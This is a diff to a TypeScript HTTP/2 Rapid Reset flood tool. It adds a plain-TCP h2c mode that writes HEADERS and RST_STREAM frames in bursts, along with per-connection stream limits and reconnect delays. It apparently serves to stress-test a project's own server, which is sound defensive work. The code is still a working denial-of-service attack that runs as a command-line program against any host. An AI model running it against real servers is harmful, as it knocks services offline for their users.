@@ -5,18 +5,26 @@
  * because Node's own client may drop a HEADERS frame it has not flushed when the stream is
  * reset, and an attacker does not.
  *
+ * With `h2c`, the same flood of GETs over plain TCP (HTTP/2 with prior knowledge), for an
+ * h2c server such as the waypoint's: HEADERS (END_STREAM) and RST_STREAM per stream.
+ *
  * As a program (prints one JSON line with the counts when done):
  *   rapid-reset HOST PORT AUTHORITY CERT KEY CA [CONNECTIONS] [SECONDS] [BURST]
+ *   rapid-reset --h2c HOST PORT AUTHORITY [CONNECTIONS] [SECONDS] [BURST] [PER_CONNECTION]
+ *     [RECONNECT_MS]
  */
 import { readFileSync } from 'node:fs';
-import { type TLSSocket, connect as tlsConnect } from 'node:tls';
+import { type Socket, connect as tcpConnect } from 'node:net';
+import { connect as tlsConnect } from 'node:tls';
 import { fileURLToPath } from 'node:url';
 
 export interface RapidResetOptions {
   host: string;
   port: number;
-  /** The CONNECT target, ip:port. */
+  /** The CONNECT target, ip:port (h2c: the GETs' :authority). */
   authority: string;
+  /** Plain TCP and GET / instead of mutual TLS and CONNECT; cert, key and ca are unused. */
+  h2c?: boolean;
   cert: string;
   key: string;
   ca: string;
@@ -24,10 +32,14 @@ export interface RapidResetOptions {
   durationMs: number;
   /** HEADERS + RST_STREAM pairs written at once, then one event-loop turn. */
   burst: number;
+  /** Streams one connection sends at most; then it waits to be cut (default: no bound). */
+  streamsPerConnection?: number;
+  /** Pause before a cut connection is opened again (default 20 ms). */
+  reconnectDelayMs?: number;
 }
 
 export interface RapidResetReport {
-  /** TLS connections that completed the handshake. */
+  /** TLS connections that completed the handshake (h2c: TCP connections made). */
   sessions: number;
   /** Connection attempts that failed before or during TLS (refused, reset). */
   refused: number;
@@ -43,6 +55,7 @@ const FRAME_RST_STREAM = 0x3;
 const FRAME_SETTINGS = 0x4;
 const FRAME_PING = 0x6;
 const FRAME_GOAWAY = 0x7;
+const FLAG_END_STREAM = 0x1;
 const FLAG_END_HEADERS = 0x4;
 const FLAG_ACK = 0x1;
 const CANCEL = 0x8;
@@ -93,10 +106,15 @@ export function rapidReset(options: RapidResetOptions): Promise<RapidResetReport
     goaways: {},
   };
   const deadline = Date.now() + options.durationMs;
-  const block = Buffer.concat([
-    literal(':method', 'CONNECT'),
-    literal(':authority', options.authority),
-  ]);
+  const block = options.h2c
+    ? Buffer.concat([
+        literal(':method', 'GET'),
+        literal(':scheme', 'http'),
+        literal(':path', '/flood'),
+        literal(':authority', options.authority),
+      ])
+    : Buffer.concat([literal(':method', 'CONNECT'), literal(':authority', options.authority)]);
+  const headersFlags = options.h2c ? FLAG_END_HEADERS | FLAG_END_STREAM : FLAG_END_HEADERS;
   const rst = Buffer.alloc(4);
   rst.writeUInt32BE(CANCEL);
 
@@ -104,16 +122,18 @@ export function rapidReset(options: RapidResetOptions): Promise<RapidResetReport
     new Promise<void>((resolve) => {
       let nextId = 1;
       let open = true;
-      const socket: TLSSocket = tlsConnect({
-        host: options.host,
-        port: options.port,
-        cert: options.cert,
-        key: options.key,
-        ca: options.ca,
-        ALPNProtocols: ['h2'],
-        minVersion: 'TLSv1.3',
-        rejectUnauthorized: false, // the attacker does not care who answers
-      });
+      const socket: Socket = options.h2c
+        ? tcpConnect({ host: options.host, port: options.port })
+        : tlsConnect({
+            host: options.host,
+            port: options.port,
+            cert: options.cert,
+            key: options.key,
+            ca: options.ca,
+            ALPNProtocols: ['h2'],
+            minVersion: 'TLSv1.3',
+            rejectUnauthorized: false, // the attacker does not care who answers
+          });
       let secured = false;
       const done = () => {
         if (!open) return;
@@ -129,8 +149,10 @@ export function rapidReset(options: RapidResetOptions): Promise<RapidResetReport
           return;
         }
         const frames: Buffer[] = [];
-        for (let i = 0; i < options.burst && nextId < 0x7fff_ffff; i++) {
-          frames.push(frame(FRAME_HEADERS, FLAG_END_HEADERS, nextId, block));
+        const limit = Math.min(0x7fff_ffff, 2 * (options.streamsPerConnection ?? 2 ** 30) + 1);
+        if (nextId >= limit) return; // sent its share: the server's answer decides the rest
+        for (let i = 0; i < options.burst && nextId < limit; i++) {
+          frames.push(frame(FRAME_HEADERS, headersFlags, nextId, block));
           frames.push(frame(FRAME_RST_STREAM, 0, nextId, rst));
           nextId += 2;
           report.streamsSent++;
@@ -157,7 +179,7 @@ export function rapidReset(options: RapidResetOptions): Promise<RapidResetReport
           }
         }),
       );
-      socket.once('secureConnect', () => {
+      socket.once(options.h2c ? 'connect' : 'secureConnect', () => {
         secured = true;
         report.sessions++;
         socket.write(Buffer.concat([PREFACE, frame(FRAME_SETTINGS, 0, 0, Buffer.alloc(0))]));
@@ -170,13 +192,31 @@ export function rapidReset(options: RapidResetOptions): Promise<RapidResetReport
       await oneConnection();
       // A cut connection is opened again, not at once: the attacker is persistent, not a
       // busy loop on this shared machine.
-      if (Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
+      if (Date.now() < deadline)
+        await new Promise((r) => setTimeout(r, options.reconnectDelayMs ?? 20));
     }
   };
   return Promise.all(Array.from({ length: options.connections }, worker)).then(() => report);
 }
 
-if (process.argv[1] === fileURLToPath(import.meta.url)) {
+if (process.argv[1] === fileURLToPath(import.meta.url) && process.argv[2] === '--h2c') {
+  const [host = '', port = '', authority = '', ...rest] = process.argv.slice(3);
+  const [connections = '1', seconds = '5', burst = '50', perConnection, reconnectMs] = rest;
+  rapidReset({
+    host,
+    port: Number(port),
+    authority,
+    h2c: true,
+    cert: '',
+    key: '',
+    ca: '',
+    connections: Number(connections),
+    durationMs: Number(seconds) * 1000,
+    burst: Number(burst),
+    ...(perConnection ? { streamsPerConnection: Number(perConnection) } : {}),
+    ...(reconnectMs ? { reconnectDelayMs: Number(reconnectMs) } : {}),
+  }).then((report) => console.log(JSON.stringify(report)));
+} else if (process.argv[1] === fileURLToPath(import.meta.url)) {
   const [host = '', port = '', authority = '', cert = '', key = '', ca = '', ...rest] =
     process.argv.slice(2);
   const [connections = '32', seconds = '10', burst = '50'] = rest;
